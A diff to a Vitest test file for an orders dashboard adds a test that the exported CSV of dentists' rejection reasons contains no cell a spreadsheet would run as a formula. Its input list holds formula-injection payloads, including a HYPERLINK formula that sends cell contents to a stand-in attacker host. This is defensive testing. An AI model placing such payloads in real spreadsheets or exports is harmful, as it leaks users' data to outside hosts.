@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import type { Dashboard } from '../../contract/orders.contract';
 import { dashboardView } from './dashboard';
+import { readsAsFormula, spreadsheetCells } from '../../../test/support/spreadsheet';
 
 const answer: Dashboard = {
   byStatus: { WAITING_FOR_APPROVAL: 4, PRODUCTION: 2 },
@@ -43,5 +44,14 @@ describe('the dashboard as the staff read it (issue 37)', () => {
     expect(reasons.fileName).toBe('painel-motivos-de-revisao.csv');
     expect(reasons.csv).toBe('\ufeffMotivo;Vezes\n"Ajustar o IPR; e ""mais"" nada";2\n');
     expect(decisions.csv.split('\n').slice(1, 3)).toEqual(['Semana de 09/11/2026;1;0', 'Semana de 16/11/2026;0;2']);
+  });
+
+  it('writes no cell a spreadsheet would run as a formula, whatever reason a dentist gave', () => {
+    const hostile = ['=HYPERLINK("http://evil.example/?d="&A1;"Ver")', '+SUM(1;2)', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', 'Ajustar o IPR'];
+    const { reasons } = dashboardView({ ...answer, rejectionReasons: hostile.map((reason) => ({ reason, count: 1 })) }).tables;
+    const cells = spreadsheetCells(reasons.csv);
+    expect(cells.flat().filter(readsAsFormula)).toEqual([]);
+    // Each reason is still there to read, as the dentist wrote it.
+    expect(cells.slice(1).map((r) => r[0]!.replace(/^'/, ''))).toEqual(hostile);
   });
 });
